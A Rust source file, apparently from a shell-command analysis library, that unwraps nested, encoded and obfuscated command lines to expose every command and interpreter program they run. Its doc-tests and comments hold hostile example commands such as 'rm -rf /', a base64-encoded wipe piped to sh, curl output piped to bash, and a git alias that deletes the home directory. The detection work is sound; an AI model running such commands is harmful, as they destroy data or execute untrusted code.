//! What a command string runs: every simple command with its wrappers
//! peeled, and every command line or program it hands to another shell or
//! interpreter read in turn (`bash -c`, `eval`, a command line given as one
//! word, `find -exec`, `xargs` fed by `echo`, `su -c`, `ssh HOST CMD`,
//! `echo … | sh`, `echo B64 | base64 -d | sh`, heredocs fed to a shell), and
//! the code handed to `python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`.
//!
//! # Linear time
//! Every re-read script is charged against a budget proportional to the
//! input (four times its length plus 4 KiB), and nesting stops at
//! [`crate::MAX_DEPTH`]; past either, a problem says what was not read.

use crate::reader::{self, Parsed, Redirect, SimpleCommand, Stdin};
use crate::wrappers::{basename, peel};

/// One command that runs, its wrappers peeled.
///
/// ```
/// let s = palisade_shell::commands_run("sudo -u root nice rm -rf /");
/// assert_eq!(s.commands[0].words, ["rm", "-rf", "/"]);
/// assert_eq!(s.commands[0].wrappers, ["sudo", "nice"]);
/// ```
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Invocation {
    /// The command word (as written, not its basename) and its arguments.
    pub words: Vec<String>,
    /// Basenames of the wrappers peeled in front of it, outermost first.
    pub wrappers: Vec<String>,
    /// Its redirects.
    pub redirects: Vec<Redirect>,
    /// How its stdin is fed.
    pub stdin: Stdin,
    /// Heredoc and here-string bodies fed to it.
    pub stdin_text: Vec<String>,
    /// How many re-reads deep it was found (0: the input itself).
    pub depth: usize,
    /// Whether it is a shell or interpreter reading piped program text
    /// that the reader cannot see through (`… | rev | tr … | sh`,
    /// `openssl enc -d … | bash`); a download piped in is not counted.
    pub opaque_input: bool,
    /// The command word (basename, after the reader's expansions) of the
    /// first command of the pipeline feeding its stdin, when it has one:
    /// `c=cu; c+=rl; $c -s URL | bash` gives `bash` the source `curl`.
    pub pipe_source: String,
    /// Whether a word of the command was spelled to hide it
    /// ([`crate::SimpleCommand::disguised`]).
    pub disguised: bool,
    /// Whether it is a shell or interpreter reading program text that a
    /// decoding filter of its pipeline produced (`echo … | rev | sh`,
    /// `echo B64 | base64 -d | bash`): the decoded text is read as commands
    /// too, but nobody encodes what they run in the open.
    pub decoded_input: bool,
}

impl Invocation {
    /// The command's basename (`/usr/bin/rm` → `rm`).
    ///
    /// ```
    /// let s = palisade_shell::commands_run("/bin/rm -rf x");
    /// assert_eq!(s.commands[0].name(), "rm");
    /// ```
    pub fn name(&self) -> &str {
        self.words.first().map_or("", |w| basename(w))
    }

    /// The arguments after the command word.
    ///
    /// ```
    /// let s = palisade_shell::commands_run("rm -rf x");
    /// assert_eq!(s.commands[0].args(), ["-rf", "x"]);
    /// ```
    pub fn args(&self) -> &[String] {
        self.words.get(1..).unwrap_or(&[])
    }
}

/// Code given to an interpreter.
///
/// ```
/// let s = palisade_shell::commands_run("python3 -c 'import os; os.system(\"ls\")'");
/// assert_eq!(s.code[0].interpreter, "python3");
/// assert!(s.code[0].text.contains("os.system"));
/// ```
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Code {
    /// The interpreter's basename (`python3`, `node`, `perl`, …).
    pub interpreter: String,
    /// The program text.
    pub text: String,
    /// Re-read depth of the command that runs it.
    pub depth: usize,
}

/// Everything a command string runs.
///
/// ```
/// let s = palisade_shell::commands_run("bash -c 'eval \"rm -rf /\"'");
/// assert!(s.commands.iter().any(|c| c.name() == "rm" && c.depth == 2));
/// ```
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Script {
    /// Commands in the order they were read (substitutions first).
    pub commands: Vec<Invocation>,
    /// Programs handed to interpreters.
    pub code: Vec<Code>,
    /// What could not be read (unterminated quotes, budget or depth exhausted…).
    pub problems: Vec<String>,
}

/// Shells whose `-c` value or fed stdin is a command line.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "tcsh", "csh", "rbash",
];

/// Interpreter basenames and the options that take a program.
fn interpreter_flags(name: &str) -> Option<&'static [&'static str]> {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "python" | "pypy" => &["-c"],
        "node" | "nodejs" | "bun" => &["-e", "--eval", "-p", "--print"],
        "deno" => &["eval"],
        "perl" => &["-e", "-E"],
        "ruby" => &["-e"],
        "php" => &["-r"],
        "lua" | "luajit" => &["-e"],
        "Rscript" => &["-e"],
        _ => return None,
    })
}

/// Whether `name` is an interpreter [`commands_run`] reads code for.
///
/// ```
/// assert!(palisade_shell::is_interpreter("python3.12"));
/// assert!(!palisade_shell::is_interpreter("rm"));
/// ```
pub fn is_interpreter(name: &str) -> bool {
    interpreter_flags(name).is_some()
}

/// Read `input` and everything it runs.
///
/// ```
/// let s = palisade_shell::commands_run("echo cm0gLXJmIC8= | base64 -d | sh");
/// assert!(s.commands.iter().any(|c| c.words == ["rm", "-rf", "/"]));
/// ```
pub fn commands_run(input: &str) -> Script {
    let mut walk = Walk {
        out: Script::default(),
        budget: input.len().saturating_mul(4).saturating_add(4096),
    };
    let parsed = reader::parse(input);
    walk.out.problems.extend(parsed.problems.iter().cloned());
    walk.parsed(&parsed, 0);
    walk.out
}

/// At most this many values of a `for` loop are tried.
const MAX_LOOP_VALUES: usize = 16;

/// Whether a command's words use `$NAME` / `${NAME}`.
fn mentions(cmd: &SimpleCommand, name: &str) -> bool {
    let plain = format!("${name}");
    let braced = format!("${{{name}}}");
    cmd.words.iter().any(|w| {
        w.contains(&braced)
            || w.match_indices(&plain).any(|(at, _)| {
                !w[at + plain.len()..]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
            })
    })
}

/// `eval "$(printf '%s %s' rm -rf)"`, `sh -c "$(echo …)"`: a substitution
/// made of one `echo`/`printf` of literal words (read just before the
/// command that uses it) prints those words; put them in its place.
fn printed_substitution(cmd: &SimpleCommand, before: &SimpleCommand) -> Option<SimpleCommand> {
    let marker = reader::SUBSTITUTION;
    let at = cmd.words.iter().position(|w| w.contains(marker))?;
    if before.pipes_out || before.stdin != Stdin::Inherited || !before.redirects.is_empty() {
        return None;
    }
    let name = basename(before.words.first()?);
    let args: Vec<&str> = before.words[1..].iter().map(String::as_str).collect();
    if args.iter().any(|a| a.contains(marker)) {
        return None;
    }
    let printed = match name {
        "echo" => args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .copied()
            .collect::<Vec<_>>()
            .join(" "),
        "printf" => printf(args.first()?, &args[1..]),
        _ => return None,
    };
    let mut out = cmd.clone();
    out.words[at] = out.words[at].replacen(marker, printed.trim_end(), 1);
    Some(out)
}

/// `eval "$(echo 'hs | … lruc' | rev)"`: a substitution made of a literal
/// `echo`/`printf` piped through `rev` prints the text reversed.
fn reversed_substitution(
    cmd: &SimpleCommand,
    source: &SimpleCommand,
    rev: &SimpleCommand,
) -> Option<SimpleCommand> {
    let is_rev = rev.words.len() == 1
        && basename(&rev.words[0]) == "rev"
        && rev.stdin == Stdin::Pipe
        && !rev.pipes_out
        && rev.redirects.is_empty();
    if !is_rev || !source.pipes_out || source.stdin != Stdin::Inherited {
        return None;
    }
    let text = echoed_text(source)?;
    if text.contains(reader::SUBSTITUTION) {
        return None;
    }
    let reversed: String = text
        .lines()
        .map(|l| l.chars().rev().collect::<String>())
        .collect::<Vec<_>>()
        .join("\n");
    let marker = reader::SUBSTITUTION;
    let at = cmd.words.iter().position(|w| w.contains(marker))?;
    let mut out = cmd.clone();
    out.words[at] = out.words[at].replacen(marker, reversed.trim_end(), 1);
    Some(out)
}

/// `printf FORMAT ARGS…` for `%s`/`%b`/`%d` and `\n`, the format reused
/// while arguments remain (as printf does).
fn printf(format: &str, args: &[&str]) -> String {
    let mut out = String::new();
    let mut rest = args.iter();
    let mut rounds = 0;
    loop {
        rounds += 1;
        let mut used = false;
        let mut chars = format.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, chars.peek().copied()) {
                ('%', Some('s' | 'b' | 'd' | 'i')) => {
                    chars.next();
                    used = true;
                    out.push_str(rest.next().copied().unwrap_or(""));
                }
                ('%', Some('%')) => {
                    chars.next();
                    out.push('%');
                }
                ('\\', Some('n')) => {
                    chars.next();
                    out.push('\n');
                }
                ('\\', Some('t')) => {
                    chars.next();
                    out.push('\t');
                }
                ('\\', Some('\\')) => {
                    chars.next();
                    out.push('\\');
                }
                // `\162\155` (octal) and `\x72\x6d` (hex): the bytes they name.
                ('\\', Some('0'..='7')) => {
                    let mut v = 0u32;
                    for _ in 0..3 {
                        match chars.peek().and_then(|d| d.to_digit(8)) {
                            Some(d) => {
                                v = v * 8 + d;
                                chars.next();
                            }
                            None => break,
                        }
                    }
                    out.push(char::from_u32(v).unwrap_or('?'));
                }
                ('\\', Some('x')) => {
                    chars.next();
                    let mut v = 0u32;
                    for _ in 0..2 {
                        match chars.peek().and_then(|d| d.to_digit(16)) {
                            Some(d) => {
                                v = v * 16 + d;
                                chars.next();
                            }
                            None => break,
                        }
                    }
                    out.push(char::from_u32(v).unwrap_or('?'));
                }
                _ => out.push(c),
            }
        }
        if !used || rest.len() == 0 || rounds >= 64 || out.len() > 1 << 16 {
            break;
        }
    }
    out
}

/// At most this many invocations are kept.
const MAX_INVOCATIONS: usize = 1 << 16;

struct Walk {
    out: Script,
    budget: usize,
}

impl Walk {
    fn reread(&mut self, script: &str, depth: usize) {
        if script.trim().is_empty() {
            return;
        }
        if depth >= crate::MAX_DEPTH {
            self.out.problems.push("nesting too deep".into());
            return;
        }
        if script.len() > self.budget {
            self.out
                .problems
                .push("nested scripts exceed the reading budget; not all were read".into());
            self.budget = 0;
            return;
        }
        self.budget -= script.len();
        let parsed = reader::parse(script);
        self.out.problems.extend(parsed.problems.iter().cloned());
        self.parsed(&parsed, depth + 1);
    }

    fn parsed(&mut self, parsed: &Parsed, depth: usize) {
        // `for NAME in VALUES; do … done`: the body runs once per value.
        let mut loops: Vec<(String, Vec<String>)> = Vec::new();
        // The commands as run: a printed or reversed substitution put in
        // its place, so a later stage of the pipeline sees what it reads
        // (`eval "$(printf '\x63…')" | sh`).
        let mut effective: Vec<SimpleCommand> = Vec::with_capacity(parsed.commands.len());
        for (i, cmd) in parsed.commands.iter().enumerate() {
            let first = cmd.words.first().map(String::as_str);
            if first == Some("for") && cmd.words.get(2).is_some_and(|w| w == "in") {
                if let Some(name) = cmd.words.get(1) {
                    let values = cmd.words[3..]
                        .iter()
                        .take(MAX_LOOP_VALUES)
                        .cloned()
                        .collect();
                    loops.push((name.clone(), values));
                }
                effective.push(cmd.clone());
                continue;
            }
            if first == Some("done") {
                loops.pop();
                effective.push(cmd.clone());
                continue;
            }
            let cmd = match i.checked_sub(1).map(|j| &parsed.commands[j]) {
                Some(before) => printed_substitution(cmd, before).or_else(|| {
                    let source = &parsed.commands[i.checked_sub(2)?];
                    reversed_substitution(cmd, source, before)
                }),
                None => None,
            };
            let cmd = cmd.as_ref().unwrap_or(&parsed.commands[i]);
            let prev = (i > 0 && parsed.commands[i - 1].pipes_out).then(|| &effective[..i]);
            match loops.iter().rev().find(|(name, _)| mentions(cmd, name)) {
                Some((name, values)) => {
                    for v in values {
                        let mut one = cmd.clone();
                        for w in &mut one.words {
                            *w = w
                                .replace(&format!("${{{name}}}"), v)
                                .replace(&format!("${name}"), v);
                        }
                        self.one(&one, prev, depth);
                    }
                }
                None => self.one(cmd, prev, depth),
            }
            effective.push(cmd.clone());
        }
    }

    fn code(&mut self, interpreter: &str, text: String, depth: usize) {
        if self.out.code.len() < MAX_INVOCATIONS && !text.trim().is_empty() {
            self.out.code.push(Code {
                interpreter: interpreter.to_owned(),
                text,
                depth,
            });
        }
    }

    fn one(&mut self, cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>, depth: usize) {
        // A wrapper given no command runs as itself (`env > f` prints the
        // environment); only assignments run nothing.
        let Some(start) = peel(&cmd.words).or_else(|| {
            cmd.words
                .iter()
                .position(|w| reader::split_assignment(w).is_none())
        }) else {
            return;
        };
        let words = &cmd.words[start..];
        // A command word holding blanks is a command line given as one
        // word (`env -S 'rm …'`, `watch 'rm …'`, `flock l -c 'rm …'`).
        if words[0].contains([' ', '\t', '\n']) {
            self.reread(&words.join(" "), depth);
            return;
        }
        let wrappers: Vec<String> = cmd.words[..start]
            .iter()
            .filter(|w| reader::split_assignment(w).is_none())
            .map(|w| basename(w).to_owned())
            .filter(|w| crate::wrapper(w).is_some())
            .collect();
        let mut inv = Invocation {
            words: words.to_vec(),
            wrappers,
            redirects: cmd.redirects.clone(),
            stdin: cmd.stdin,
            stdin_text: cmd.stdin_text.clone(),
            depth,
            opaque_input: false,
            pipe_source: pipeline_source(cmd, prev),
            disguised: cmd.disguised,
            decoded_input: false,
        };
        // `echo / | xargs rm -rf`: the piped words become arguments;
        // `ls -d /home/*/ | xargs rm -rf`, `find ~/p -maxdepth 1 | xargs rm`,
        // `ls ~/p | xargs -I{} rm -rf ~/p/{}`: what a listing names does.
        if inv.wrappers.iter().any(|w| w == "xargs") {
            let source = prev.and_then(<[SimpleCommand]>::last);
            if let Some(text) = source.and_then(echoed_text) {
                inv.words
                    .extend(text.split_whitespace().take(64).map(str::to_owned));
            } else if let Some(listed) =
                prev.and_then(listing_before_filters).and_then(listed_paths)
            {
                let placeholder = inv.words.iter().any(|w| w.contains("{}"));
                if placeholder {
                    // Each listed name is put in the template: a child of
                    // the listed directory, any of them.
                    for w in &mut inv.words {
                        *w = w.replace("{}", "*");
                    }
                } else {
                    inv.words.extend(listed.into_iter().take(64));
                }
            }
        }
        let name = inv.name().to_owned();
        let args = inv.args().to_vec();
        if self.out.commands.len() < MAX_INVOCATIONS {
            self.out.commands.push(inv);
        } else if !self
            .out
            .problems
            .iter()
            .any(|p| p == crate::TOO_MANY_COMMANDS)
        {
            self.out.problems.push(crate::TOO_MANY_COMMANDS.into());
        }
        if SHELLS.contains(&name.as_str())
            || (name == "busybox" && args.first().is_some_and(|a| SHELLS.contains(&a.as_str())))
        {
            let args = if name == "busybox" {
                &args[1..]
            } else {
                &args[..]
            };
            if let Some(script) = shell_c_value(args) {
                self.reread(&script, depth);
            } else if args.iter().all(|a| a.starts_with('-')) {
                let texts = fed_text(cmd, prev);
                if texts.is_empty() && cmd.stdin == Stdin::Pipe && opaque_pipeline(prev) {
                    if let Some(last) = self.out.commands.last_mut() {
                        last.opaque_input = true;
                    }
                }
                if !texts.is_empty() && decoded_pipeline(cmd, prev) {
                    if let Some(last) = self.out.commands.last_mut() {
                        last.decoded_input = true;
                    }
                }
                for text in texts {
                    self.reread(&text, depth);
                }
            }
            return;
        }
        // awk's program is its first operand (`awk 'BEGIN{system(…)}'`).
        if matches!(
            name.as_str(),
            "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk"
        ) {
            if let Some(program) = awk_program(&args) {
                self.code(&name, program, depth);
            }
            return;
        }
        if let Some(flags) = interpreter_flags(&name) {
            if let Some(code) = option_value(&args, flags) {
                self.code(&name, code, depth);
            } else if args.iter().all(|a| a.starts_with('-'))
                || args.first().is_some_and(|a| a == "-")
            {
                for text in fed_text(cmd, prev) {
                    self.code(&name, text, depth);
                }
            }
            return;
        }
        match name.as_str() {
            "eval" => self.reread(&args.join(" "), depth),
            // `git config alias.NAME '!CMD'`: a shell alias stores a
            // command line that `git NAME` runs later; it is read as run.
            "git" => {
                if let Some(body) = git_shell_alias(&args) {
                    self.reread(body, depth);
                }
            }
            // `echo CMD | at now + 10 minutes`: at and batch read the job's
            // command lines from stdin (unless `-f FILE` names them).
            "at" | "batch" if !args.iter().any(|a| a == "-f" || a == "-l" || a == "-r") => {
                for text in fed_text(cmd, prev) {
                    self.reread(&text, depth);
                }
            }
            "su" | "runuser" | "script" | "sg" => {
                if let Some(script) = option_value(&args, &["-c", "--command"]) {
                    self.reread(&script, depth);
                }
            }
            "find" => {
                if let Some(at) = args
                    .iter()
                    .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
                {
                    // `{}` is the root itself, or, when a test narrows what
                    // is found (`-name`, `-mtime`, …), an entry under it.
                    let root = args.first().cloned().unwrap_or_default();
                    let narrowed = args[..at].iter().any(|a| {
                        matches!(
                            a.as_str(),
                            "-name"
                                | "-iname"
                                | "-path"
                                | "-ipath"
                                | "-regex"
                                | "-iregex"
                                | "-mtime"
                                | "-mmin"
                                | "-atime"
                                | "-amin"
                                | "-ctime"
                                | "-newer"
                                | "-size"
                                | "-user"
                                | "-mindepth"
                                | "-empty"
                        )
                    });
                    let found = if narrowed && !root.starts_with('-') {
                        format!("{}/{{}}", root.trim_end_matches('/'))
                    } else {
                        root
                    };
                    let inner: Vec<String> = args[at + 1..]
                        .iter()
                        .take_while(|a| a.as_str() != ";" && a.as_str() != "+")
                        .map(|a| if a == "{}" { found.clone() } else { a.clone() })
                        .collect();
                    self.words(inner, depth);
                }
            }
            "docker" | "podman" | "nerdctl" if args.first().is_some_and(|a| a == "run") => {
                self.words(container_command(&args[1..]), depth);
            }
            "kubectl" | "oc" | "docker" | "podman" if args.first().is_some_and(|a| a == "exec") => {
                if let Some(at) = args.iter().position(|a| a == "--") {
                    self.words(args[at + 1..].to_vec(), depth);
                }
            }
            "ssh" => {
                // `ssh HOST CMD…`: the remote command line.
                let pos = positionals(
                    &args,
                    &[
                        "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m",
                        "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w",
                    ],
                );
                if pos.len() > 1 {
                    self.reread(&pos[1..].join(" "), depth);
                }
            }
            "tmux" | "screen" => {
                for a in args.iter().filter(|a| a.contains(' ')) {
                    self.reread(a, depth);
                }
            }
            _ => {}
        }
    }

    /// Run a word list as a simple command one level deeper.
    fn words(&mut self, words: Vec<String>, depth: usize) {
        if words.is_empty() || depth + 1 >= crate::MAX_DEPTH {
            return;
        }
        let sub = SimpleCommand {
            words,
            ..SimpleCommand::default()
        };
        self.one(&sub, None, depth + 1);
    }
}

/// `docker run [OPTIONS] IMAGE [COMMAND…]` → `COMMAND…`.
fn container_command(args: &[String]) -> Vec<String> {
    const WITH_VALUE: &[&str] = &[
        "-v",
        "--volume",
        "-e",
        "--env",
        "-p",
        "--publish",
        "--name",
        "-w",
        "--workdir",
        "-u",
        "--user",
        "--entrypoint",
        "--network",
        "--net",
        "--mount",
        "-l",
        "--label",
        "--env-file",
        "-h",
        "--hostname",
        "--platform",
        "--cpus",
        "-m",
        "--memory",
        "--restart",
        "--add-host",
        "--device",
        "--cap-add",
        "--cap-drop",
        "--security-opt",
        "--pid",
        "--ipc",
        "--shm-size",
        "--ulimit",
        "--tmpfs",
        "--gpus",
        "--pull",
        "--log-driver",
        "--dns",
    ];
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if !a.starts_with('-') {
            break;
        }
        i += if WITH_VALUE.contains(&a) { 2 } else { 1 };
    }
    // args[i] is the image.
    args.get(i + 1..)
        .map(<[String]>::to_vec)
        .unwrap_or_default()
}

/// The most stages [`feeding_stages`] walks back: every command of a long
/// pipeline asks, so an unbounded walk would be quadratic.
const MAX_FEEDING_STAGES: usize = 64;

/// The stages of the pipeline that ends with the last of `prev` (the
/// pipeline feeding the command after them), at most
/// [`MAX_FEEDING_STAGES`] of them, and whether they reach its first stage.
fn feeding_stages(prev: Option<&[SimpleCommand]>) -> (&[SimpleCommand], bool) {
    let Some(stages) = prev else {
        return (&[], true);
    };
    let mut from = stages.len();
    while from > 0 && stages[from - 1].pipes_out {
        if stages.len() - from == MAX_FEEDING_STAGES {
            return (&stages[from..], false);
        }
        from -= 1;
    }
    (&stages[from..], true)
}

/// The first command of the pipeline feeding `cmd`, wrappers peeled; empty
/// when `cmd` reads no pipe or the pipeline is longer than the walk.
fn pipeline_source(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> String {
    if cmd.stdin != Stdin::Pipe {
        return String::new();
    }
    let (stages, whole) = feeding_stages(prev);
    let Some(first) = stages.first().filter(|_| whole) else {
        return String::new();
    };
    let Some(i) = peel(&first.words) else {
        return String::new();
    };
    let name = basename(&first.words[i]);
    // `eval "curl -s URL" | sh`: what eval runs is the source.
    if name == "eval" {
        let line = first.words[i + 1..].join(" ");
        if let Some(word) = line.split_whitespace().next() {
            return basename(word).to_owned();
        }
    }
    name.to_owned()
}

/// Whether the pipeline feeding a shell starts with text we could see but
/// passes it through a transformation we do not evaluate. A pipeline
/// longer than the walk is opaque too: its source is out of sight.
fn opaque_pipeline(prev: Option<&[SimpleCommand]>) -> bool {
    let (pipeline, whole) = feeding_stages(prev);
    if !whole {
        return true;
    }
    let Some(source) = pipeline.first() else {
        return false;
    };
    let literal_source = echoed_text(source).is_some() || !source.stdin_text.is_empty();
    literal_source && pipeline.len() > 1
}

/// Whether what `cmd` reads went through a decoding filter ([`Filter`]):
/// a stage of the pipeline feeding it (the last [`MAX_FEEDING_STAGES`]),
/// or the command itself given a here-string.
fn decoded_pipeline(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> bool {
    if cmd.stdin != Stdin::Pipe {
        return false;
    }
    feeding_stages(prev)
        .0
        .iter()
        .any(|stage| Filter::of(&stage.words).is_some())
}

/// The program text of an awk command line: the first operand after the
/// options (`-F SEP`, `-v NAME=VALUE`); none when `-f FILE` names it.
fn awk_program(args: &[String]) -> Option<String> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "-f" | "--file" => return None,
            "-F" | "-v" | "--assign" | "--field-separator" => {
                it.next();
            }
            "--" => return it.next().cloned(),
            _ if a.starts_with("-f") => return None,
            _ if a.starts_with('-') && a.len() > 1 => {}
            _ => return Some(a.clone()),
        }
    }
    None
}

/// `-c SCRIPT` (also `-lc`, `-ec`, `-xc`): the script a shell is given.
fn shell_c_value(args: &[String]) -> Option<String> {
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if !a.starts_with('-') || a == "--" {
            return None;
        }
        if !a.starts_with("--") && a.contains('c') {
            return it.next().cloned();
        }
    }
    None
}

/// The value of the first of `flags` (`-c CODE`, `-cCODE`, `--eval=CODE`).
fn option_value(args: &[String], flags: &[&str]) -> Option<String> {
    for (i, a) in args.iter().enumerate() {
        for f in flags {
            // A subcommand (`deno eval --allow-all 'CODE'`) takes its
            // options before the program.
            if a == f && !f.starts_with('-') {
                return args[i + 1..].iter().find(|v| !v.starts_with('-')).cloned();
            }
            if a == f {
                return args.get(i + 1).cloned();
            }
            if let Some(rest) = a.strip_prefix(f) {
                if f.starts_with("--") {
                    if let Some(v) = rest.strip_prefix('=') {
                        return Some(v.to_owned());
                    }
                } else if f.len() == 2 && !rest.is_empty() && !f.starts_with("--") {
                    return Some(rest.to_owned());
                }
            }
        }
    }
    None
}

/// Words that are not options or option values.
fn positionals<'w>(args: &'w [String], with_arg: &[&str]) -> Vec<&'w str> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a.starts_with('-') && a.len() > 1 && out.is_empty() {
            i += if with_arg.contains(&a) { 2 } else { 1 };
            continue;
        }
        out.push(a);
        i += 1;
    }
    out
}

/// The text `echo`/`printf` writes, or `cat`'s heredoc.
fn echoed_text(source: &SimpleCommand) -> Option<String> {
    let first = source.words.first().map(|w| basename(w))?;
    match first {
        "printf" if source.words.len() > 1 => {
            let args: Vec<&str> = source.words[2..].iter().map(String::as_str).collect();
            Some(printf(&source.words[1], &args))
        }
        "echo" | "printf" => Some(
            source.words[1..]
                .iter()
                .filter(|a| !a.starts_with('-'))
                .cloned()
                .collect::<Vec<_>>()
                .join(" "),
        ),
        "cat" if source.words.len() == 1 && !source.stdin_text.is_empty() => {
            Some(source.stdin_text.join("\n"))
        }
        _ => None,
    }
}

/// The paths a listing prints, as patterns: `ls -d A B` prints `A B`,
/// `ls A` prints A's children (`A/*`), `find A …` prints A and what is
/// under it (`A/*`). `None` for any other command or no operand.
/// The stage that lists names for `xargs`, read back over the stages
/// that only pick some of its lines (`ls -1t | tail -n +6 | xargs rm`:
/// `tail` keeps names `ls` printed, so they are what `ls` lists).
fn listing_before_filters(prev: &[SimpleCommand]) -> Option<&SimpleCommand> {
    prev.iter().rev().take(8).find(|stage| {
        let name = peel(&stage.words)
            .and_then(|start| stage.words.get(start))
            .map(|w| basename(w));
        !matches!(
            name,
            Some("head" | "tail" | "sort" | "uniq" | "grep" | "egrep" | "fgrep" | "shuf" | "tac")
        )
    })
}

fn listed_paths(source: &SimpleCommand) -> Option<Vec<String>> {
    let start = peel(&source.words)?;
    let words = &source.words[start..];
    let name = basename(words.first()?);
    let operands = |ws: &[String]| -> Vec<String> {
        ws.iter()
            .filter(|a| !a.starts_with('-'))
            .take(16)
            .cloned()
            .collect()
    };
    let child = |p: &str| format!("{}/*", p.trim_end_matches('/'));
    match name {
        "ls" => {
            let dirs_only = words[1..]
                .iter()
                .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
                || words.iter().any(|a| a == "--directory");
            let paths = operands(&words[1..]);
            if paths.is_empty() {
                return None;
            }
            Some(if dirs_only {
                paths
            } else {
                paths.iter().map(|p| child(p)).collect()
            })
        }
        "find" => {
            // Only an unfiltered listing names everything under its
            // operands; `-name '*.pyc'`, `-mtime +7` pick some.
            let picks = words[1..].iter().any(|a| {
                a.starts_with('-')
                    && !matches!(
                        a.as_str(),
                        "-maxdepth"
                            | "-mindepth"
                            | "-type"
                            | "-print"
                            | "-print0"
                            | "-L"
                            | "-H"
                            | "-P"
                            | "-xdev"
                            | "-mount"
                    )
            });
            if picks {
                return None;
            }
            // Operands come before the first expression word.
            let paths: Vec<String> = words[1..]
                .iter()
                .take_while(|a| !a.starts_with('-') && !a.starts_with('(') && *a != "!")
                .take(16)
                .map(|p| child(p))
                .collect();
            (!paths.is_empty()).then_some(paths)
        }
        _ => None,
    }
}

/// Git settings whose value is a command line git runs later.
const GIT_COMMAND_KEYS: &[&str] = &[
    "core.fsmonitor",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "sequence.editor",
    "diff.external",
    "gpg.program",
];

/// The command line a git setting stores for later (`git config --global
/// alias.wipe '!rm -rf ~'`, `git -c alias.x='!sh -c …' x`, `git config
/// core.fsmonitor 'sh -c "…"'`): a shell alias's value after the `!`, or
/// the value of a setting in [`GIT_COMMAND_KEYS`] (`credential.helper`
/// when it starts with `!`).
fn git_shell_alias<'a>(args: &'a [String]) -> Option<&'a str> {
    let command_of = |key: &str, value: &'a str| -> Option<&'a str> {
        let key = key.to_ascii_lowercase();
        if key.starts_with("alias.") || key.ends_with(".helper") {
            value.strip_prefix('!')
        } else if GIT_COMMAND_KEYS.contains(&key.as_str()) {
            Some(value)
        } else {
            None
        }
    };
    if let Some(v) = args
        .iter()
        .find_map(|a| a.split_once('=').and_then(|(k, v)| command_of(k, v)))
    {
        return Some(v);
    }
    let config = args.iter().position(|a| a == "config")?;
    let rest = &args[config + 1..];
    let key = rest.iter().position(|a| !a.starts_with('-'))?;
    command_of(&rest[key], rest.get(key + 1)?)
}

/// A pipeline stage whose output the reader computes from its input: the
/// decoders and character maps that hide a command from a reader of the
/// command line (`base64 -d`, `openssl base64 -d`, `xxd -r -p`, `rev`,
/// `tr 'a-z' 'n-za-m'`), and the pass-throughs `cat` and `tee`.
#[derive(Debug)]
enum Filter {
    Same,
    Reverse,
    Base64,
    Hex,
    Map(Vec<(char, char)>),
}

impl Filter {
    /// The filter a stage's words run, if the reader evaluates it.
    fn of(words: &[String]) -> Option<Filter> {
        let name = basename(words.first().map_or("", String::as_str));
        let args = words.get(1..).unwrap_or_default();
        let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.as_str()));
        match name {
            "cat" | "tee" => Some(Filter::Same),
            "rev" if args.is_empty() => Some(Filter::Reverse),
            "base64" if has(&["-d", "--decode", "-D"]) => Some(Filter::Base64),
            "openssl"
                if args.first().is_some_and(|a| a == "base64" || a == "enc")
                    && has(&["-d"])
                    && (args.first().is_some_and(|a| a == "base64")
                        || has(&["-base64", "-a", "-A"])) =>
            {
                Some(Filter::Base64)
            }
            "xxd" if has(&["-r"]) && has(&["-p", "-ps", "-plain", "-postscript"]) => {
                Some(Filter::Hex)
            }
            "tr" => match args {
                [from, to] if !from.starts_with('-') => {
                    let (from, to) = (tr_set(from)?, tr_set(to)?);
                    let last = *to.last()?;
                    let pairs = from
                        .iter()
                        .enumerate()
                        .map(|(i, &c)| (c, to.get(i).copied().unwrap_or(last)))
                        .collect();
                    Some(Filter::Map(pairs))
                }
                _ => None,
            },
            _ => None,
        }
    }

    /// The filter's output for `text`; `None` when it cannot decode it.
    fn apply(&self, text: &str) -> Option<String> {
        match self {
            Filter::Same => Some(text.to_owned()),
            Filter::Reverse => Some(
                text.lines()
                    .map(|l| l.chars().rev().collect::<String>())
                    .collect::<Vec<_>>()
                    .join("\n"),
            ),
            Filter::Base64 => crate::decode_base64(text),
            Filter::Hex => decode_hex(text),
            Filter::Map(pairs) => Some(
                text.chars()
                    .map(|c| pairs.iter().find(|(f, _)| *f == c).map_or(c, |(_, t)| *t))
                    .collect(),
            ),
        }
    }
}

/// Longest set `tr` is read with: ASCII ranges expand to at most this.
const TR_SET_MAX: usize = 256;

/// A `tr` set with its ranges expanded (`a-z`, `A-Za-z0-9`); `None` for
/// classes (`[:upper:]`), escapes or a set longer than [`TR_SET_MAX`].
fn tr_set(spec: &str) -> Option<Vec<char>> {
    let chars: Vec<char> = spec.chars().collect();
    if chars
        .iter()
        .any(|c| !c.is_ascii() || matches!(c, '[' | '\\'))
    {
        return None;
    }
    let mut set = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        match (chars.get(i + 1), chars.get(i + 2)) {
            (Some('-'), Some(&end)) if chars[i] <= end => {
                set.extend(chars[i]..=end);
                i += 3;
            }
            _ => {
